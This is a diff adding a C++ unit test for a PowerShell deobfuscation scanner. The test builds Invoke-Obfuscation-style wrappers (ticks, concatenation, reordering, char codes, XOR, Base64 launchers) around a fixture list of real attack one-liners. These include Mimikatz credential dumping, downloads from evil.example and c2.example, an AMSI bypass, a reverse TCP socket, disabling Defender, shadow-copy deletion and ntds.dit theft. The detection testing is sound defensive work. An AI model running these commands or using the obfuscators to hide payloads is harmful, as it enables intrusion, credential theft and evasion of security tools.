@@ -1,0 +1,342 @@
+// A small Invoke-Obfuscation look-alike written in the test: TOKEN (ticks),
+// STRING (concatenation, -f reordering, reversal), ENCODING (ASCII / hex /
+// octal / binary char codes, delimited strings, -bxor) and Base64 launchers,
+// applied singly and nested 2-4 deep (seeded) to known clear scripts. The
+// layered decoder must reveal the clear signature text in some layer, with
+// the expected decoders on the path from the root to that layer.
+#include <algorithm>
+#include <cstdint>
+#include <random>
+#include <set>
+#include <string>
+#include <vector>
+
+#include "decoders/layered_decoder.h"
+#include "gtest/gtest.h"
+#include "tests/decoders/test_util.h"
+
+namespace sbscan::decoders {
+namespace {
+
+using ::sbscan::decoders::testing::EncodeCommand;
+
+struct Clear {
+  const char* script;
+  const char* signature;
+};
+
+const Clear kScripts[] = {
+    {"IEX (New-Object Net.WebClient).DownloadString('https://raw.githubusercontent.com/mattifestation/PowerSploit/master/Exfiltration/Invoke-Mimikatz.ps1'); Invoke-Mimikatz -DumpCreds", "Invoke-Mimikatz -DumpCreds"},
+    {"(New-Object System.Net.WebClient).DownloadFile('http://10.0.0.5/a.exe', \"$env:TEMP\\a.exe\"); Start-Process \"$env:TEMP\\a.exe\"", "DownloadFile"},
+    {"[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)", "amsiInitFailed"},
+    {"Invoke-WebRequest -Uri http://evil.example/payload.ps1 -OutFile C:\\Users\\Public\\p.ps1; powershell -ep bypass -f C:\\Users\\Public\\p.ps1", "Invoke-WebRequest"},
+    {"IEX (iwr 'http://192.168.1.10/PowerView.ps1' -UseBasicParsing); Get-DomainUser -SPN | Select-Object samaccountname", "Get-DomainUser"},
+    {"Invoke-Mimikatz -Command 'sekurlsa::logonpasswords'", "sekurlsa::logonpasswords"},
+    {"$c = New-Object System.Net.Sockets.TCPClient('10.10.10.10',4444); $s = $c.GetStream()", "System.Net.Sockets.TCPClient"},
+    {"Set-MpPreference -DisableRealtimeMonitoring $true", "DisableRealtimeMonitoring"},
+    {"Add-MpPreference -ExclusionPath C:\\Windows\\Temp", "ExclusionPath"},
+    {"vssadmin delete shadows /all /quiet; wbadmin delete catalog -quiet", "delete shadows"},
+    {"Invoke-Kerberoast -OutputFormat Hashcat | Out-File hashes.txt", "Invoke-Kerberoast"},
+    {"Get-WmiObject Win32_Shadowcopy | ForEach-Object { $_.Delete() }", "Win32_Shadowcopy"},
+    {"[System.Reflection.Assembly]::Load([IO.File]::ReadAllBytes('C:\\t\\SharpHound.exe'))", "SharpHound"},
+    {"New-ItemProperty -Path HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run -Name Updater -Value 'powershell -w hidden -nop -c calc'", "CurrentVersion\\Run"},
+    {"Start-BitsTransfer -Source http://evil.example/x.exe -Destination $env:APPDATA\\x.exe", "Start-BitsTransfer"},
+    {"Invoke-Shellcode -Payload windows/meterpreter/reverse_https -Lhost 10.0.0.1 -Lport 443 -Force", "Invoke-Shellcode"},
+    {"wevtutil cl Security; Clear-EventLog -LogName System", "Clear-EventLog"},
+    {"Invoke-TokenManipulation -ImpersonateUser -Username 'NT AUTHORITY\\SYSTEM'", "Invoke-TokenManipulation"},
+    {"$wc=New-Object Net.WebClient;$wc.Headers.Add('User-Agent','Mozilla/5.0');IEX $wc.DownloadString('http://c2.example/stage2')", "DownloadString"},
+    {"Copy-Item C:\\Windows\\NTDS\\ntds.dit C:\\Temp\\ntds.dit; reg save HKLM\\SYSTEM C:\\Temp\\system.hive", "ntds.dit"},
+};
+
+// A transform and the decoder expected to undo it.
+struct Family {
+  const char* name;
+  const char* decoder;
+  std::string (*apply)(const std::string&, std::mt19937&);
+};
+
+std::string SingleQuote(std::string_view s) {
+  std::string out = "'";
+  for (char c : s) {
+    if (c == '\'') out += '\'';
+    out += c;
+  }
+  return out + "'";
+}
+
+// Pieces of 1-8 bytes.
+std::vector<std::string> Split(const std::string& s, std::mt19937& rng) {
+  std::vector<std::string> parts;
+  for (size_t i = 0; i < s.size();) {
+    const size_t n = std::min<size_t>(s.size() - i, 1 + rng() % 8);
+    parts.push_back(s.substr(i, n));
+    i += n;
+  }
+  return parts;
+}
+
+// TOKEN ticks: a backtick before some letters of each command name
+// (Verb-Noun barewords outside quotes, brackets and variables; never before
+// an escape letter 0abefnrtuv), as Invoke-Obfuscation's TOKEN\COMMAND does.
+std::string Ticks(const std::string& s, std::mt19937& rng) {
+  std::string out;
+  char quote = 0;
+  int bracket = 0;
+  for (size_t i = 0; i < s.size();) {
+    const char c = s[i];
+    if (quote) {
+      if (c == quote) quote = 0;
+      out += s[i++];
+      continue;
+    }
+    if (c == '\'' || c == '"') quote = c;
+    if (c == '[') ++bracket;
+    if (c == ']' && bracket > 0) --bracket;
+    const bool boundary = i == 0 || std::string_view(" (;|{").find(s[i - 1]) !=
+                                        std::string_view::npos;
+    if (bracket == 0 && boundary && std::isalpha(static_cast<unsigned char>(c))) {
+      size_t e = i;
+      while (e < s.size() && (std::isalnum(static_cast<unsigned char>(s[e])) ||
+                              s[e] == '-')) {
+        ++e;
+      }
+      const std::string word = s.substr(i, e - i);
+      const size_t dash = word.find('-');
+      if (dash != std::string::npos && dash > 0 && dash + 1 < word.size()) {
+        const auto eligible = [&](size_t k) {
+          return k > 0 && std::isalpha(static_cast<unsigned char>(word[k])) &&
+                 std::string_view("0abefnrtuvABEFNRTUV").find(word[k]) ==
+                     std::string_view::npos;
+        };
+        // At least one tick per command name.
+        size_t forced = word.size();
+        for (size_t k = 0; k < word.size(); ++k) {
+          if (eligible(k)) forced = k;
+        }
+        for (size_t k = 0; k < word.size(); ++k) {
+          if (eligible(k) && (k == forced || rng() % 3 == 0)) out += '`';
+          out += word[k];
+        }
+        i = e;
+        continue;
+      }
+    }
+    out += s[i++];
+  }
+  return out;
+}
+
+// STRING concatenation: ('pi'+'ec'+'es') | IEX
+std::string Concat(const std::string& s, std::mt19937& rng) {
+  std::string expr;
+  for (const std::string& p : Split(s, rng)) {
+    if (!expr.empty()) expr += rng() % 2 ? "+" : " + ";
+    expr += SingleQuote(p);
+  }
+  return "IEX (" + expr + ")";
+}
+
+// STRING / TOKEN reorder: ("{1}{0}" -f 'b','a') | IEX
+std::string Reorder(const std::string& s, std::mt19937& rng) {
+  std::vector<std::string> parts = Split(s, rng);
+  std::vector<size_t> order(parts.size());
+  for (size_t i = 0; i < order.size(); ++i) order[i] = i;
+  std::shuffle(order.begin(), order.end(), rng);
+  // parts[i] is argument order[i]; the format string lists them in order.
+  std::vector<std::string> args(parts.size());
+  std::string fmt;
+  for (size_t i = 0; i < parts.size(); ++i) {
+    args[order[i]] = parts[i];
+    fmt += "{" + std::to_string(order[i]) + "}";
+  }
+  std::string out = "IEX (\"" + fmt + "\" -f ";
+  for (size_t i = 0; i < args.size(); ++i) {
+    if (i) out += ",";
+    out += SingleQuote(args[i]);
+  }
+  return out + ")";
+}
+
+// STRING reverse, one of Invoke-Obfuscation's three idioms.
+std::string Reverse(const std::string& s, std::mt19937& rng) {
+  const std::string rev(s.rbegin(), s.rend());
+  switch (rng() % 3) {
+    case 0:
+      return "$r = " + SingleQuote(rev) +
+             "; IEX (-join ($r[-1..-($r.Length)]))";
+    case 1:
+      return "$r = [char[]]" + SingleQuote(rev) +
+             "; [Array]::Reverse($r); IEX (-join $r)";
+    default:
+      return "IEX (-join [regex]::Matches(" + SingleQuote(rev) +
+             ",'.','RightToLeft'))";
+  }
+}
+
+std::string ToBase(uint32_t v, int base) {
+  std::string d;
+  do {
+    d += "0123456789abcdef"[v % base];
+    v /= base;
+  } while (v);
+  return std::string(d.rbegin(), d.rend());
+}
+
+// ENCODING: char codes in decimal / hex / octal / binary, as a list or a
+// delimited string, or [char]N casts; with -bxor for decimal lists.
+std::string CharCodes(const std::string& s, std::mt19937& rng) {
+  const int bases[] = {10, 16, 8, 2};
+  const int base = bases[rng() % 4];
+  const std::string conv =
+      base == 10 ? "[char][int]$_"
+                 : "[char]([Convert]::ToInt16(([string]$_)," +
+                       std::to_string(base) + "))";
+  switch (rng() % 4) {
+    case 0: {  // list
+      std::string out = "IEX ((";
+      for (size_t i = 0; i < s.size(); ++i) {
+        if (i) out += rng() % 2 ? "," : " , ";
+        const std::string v = ToBase(static_cast<uint8_t>(s[i]), base);
+        out += base == 16 ? "'" + v + "'" : v;
+      }
+      return out + ") | ForEach-Object { " + conv + " }) -join '')";
+    }
+    case 1: {  // delimited string split at run time
+      const char delims[] = "~@;{}&";
+      std::string out = "'";
+      for (size_t i = 0; i < s.size(); ++i) {
+        if (i) out += delims[rng() % 6];
+        out += ToBase(static_cast<uint8_t>(s[i]), base);
+      }
+      return "IEX ((" + out + "' -split '[~@;{}&]' | ForEach-Object { " +
+             conv + " }) -join '')";
+    }
+    case 2: {  // [char]N casts
+      std::string out;
+      for (char c : s) {
+        if (!out.empty()) out += "+";
+        out += "[char]" + std::to_string(static_cast<uint8_t>(c));
+      }
+      return "IEX (" + out + ")";
+    }
+    default: {  // -bxor with a literal key
+      const int key = 1 + static_cast<int>(rng() % 127);
+      std::string out = "IEX (([char[]](";
+      for (size_t i = 0; i < s.size(); ++i) {
+        if (i) out += ",";
+        out += std::to_string(static_cast<uint8_t>(s[i]) ^ key);
+      }
+      return out + ") | %{ [char]($_ -bxor 0x" + ToBase(key, 16) +
+             ") }) -join '')";
+    }
+  }
+}
+
+// Launcher: powershell -enc <Base64 of UTF-16LE>.
+std::string Base64Launcher(const std::string& s, std::mt19937& rng) {
+  const char* sw[] = {"-enc", "-e", "-EncodedCommand", "/ec"};
+  return std::string("powershell -nop -w hidden ") + sw[rng() % 4] + " " +
+         EncodeCommand(s);
+}
+
+const Family kFamilies[] = {
+    {"ticks", "normalize", Ticks},
+    {"concat", "normalize", Concat},
+    {"reorder", "normalize", Reorder},
+    {"reverse", "normalize", Reverse},
+    {"charcodes", "charcodes", CharCodes},
+    {"base64", "base64", Base64Launcher},
+};
+constexpr size_t kFamilyCount = sizeof(kFamilies) / sizeof(kFamilies[0]);
+
+bool ContainsNoCase(std::string_view hay, std::string_view needle) {
+  return std::search(hay.begin(), hay.end(), needle.begin(), needle.end(),
+                     [](char a, char b) {
+                       return std::tolower(static_cast<unsigned char>(a)) ==
+                              std::tolower(static_cast<unsigned char>(b));
+                     }) != hay.end();
+}
+
+// Runs the decoder; true when some layer holds `signature` and the decoders
+// on its path include every name in `expected`. `*why` describes a failure.
+bool Reveals(LayeredDecoder& dec, const std::string& text,
+             const std::string& signature,
+             const std::multiset<std::string>& expected, std::string* why) {
+  dec.Run(text, [](const Layer&) {});
+  const auto& layers = dec.layers();
+  std::string best;
+  for (const Layer& l : layers) {
+    if (!ContainsNoCase(l.text, signature)) continue;
+    std::set<std::string> path;
+    std::string shown;
+    for (int i = l.index; i > 0; i = layers[static_cast<size_t>(i - 1)].parent) {
+      path.insert(std::string(layers[static_cast<size_t>(i - 1)].decoder));
+      shown = std::string(layers[static_cast<size_t>(i - 1)].decoder) + "/" + shown;
+    }
+    bool all = true;
+    for (const std::string& e : expected) all = all && path.count(e) > 0;
+    if (all) return true;
+    best = shown;
+  }
+  *why = "layers " + std::to_string(layers.size()) +
+         (best.empty() ? ", none holds the signature" : ", path " + best);
+  return false;
+}
+
+TEST(ObfuscationFamiliesTest, SingleLayer) {
+  std::mt19937 rng(4104);
+  LayeredDecoder dec;
+  size_t ok = 0, total = 0;
+  for (const Clear& c : kScripts) {
+    for (const Family& f : kFamilies) {
+      for (int rep = 0; rep < 3; ++rep) {
+        const std::string text = f.apply(c.script, rng);
+        if (text == c.script) continue;  // nothing to tick in this script
+        std::string why;
+        ++total;
+        const bool found = Reveals(dec, text, c.signature, {f.decoder}, &why);
+        ok += found;
+        EXPECT_TRUE(found) << f.name << ": " << why << "\n" << text;
+      }
+    }
+  }
+  std::printf("single layer: %zu / %zu revealed\n", ok, total);
+}
+
+TEST(ObfuscationFamiliesTest, NestedTwoToFourDeep) {
+  std::mt19937 rng(20240305);
+  LayeredDecoder dec;
+  size_t ok = 0, total = 0;
+  for (int round = 0; round < 10; ++round) {
+    for (const Clear& c : kScripts) {
+      const int layers = 2 + static_cast<int>(rng() % 3);
+      std::string text = c.script;
+      std::multiset<std::string> expected;
+      std::string names;
+      for (int k = 0; k < layers; ++k) {
+        const Family& f = kFamilies[rng() % kFamilyCount];
+        // Ticks only make sense on code, not on a wrapper's own launcher.
+        const std::string next = f.apply(text, rng);
+        if (next == text) continue;  // nothing to tick
+        // Ticks on a wrapper's own code (ForEach-Object) are not needed to
+        // reveal the payload: expect their decoder only when they hit the
+        // signature itself.
+        const bool needed = std::string_view(f.name) != "ticks" ||
+                            (text.find(c.signature) != std::string::npos &&
+                             next.find(c.signature) == std::string::npos);
+        text = next;
+        if (needed) expected.insert(f.decoder);
+        names += std::string(names.empty() ? "" : " > ") + f.name;
+      }
+      std::string why;
+      ++total;
+      const bool found = Reveals(dec, text, c.signature, expected, &why);
+      ok += found;
+      EXPECT_TRUE(found) << names << ": " << why << "\n" << text.substr(0, 400);
+    }
+  }
+  std::printf("nested: %zu / %zu revealed\n", ok, total);
+}
+
+}  // namespace
+}  // namespace sbscan::decoders
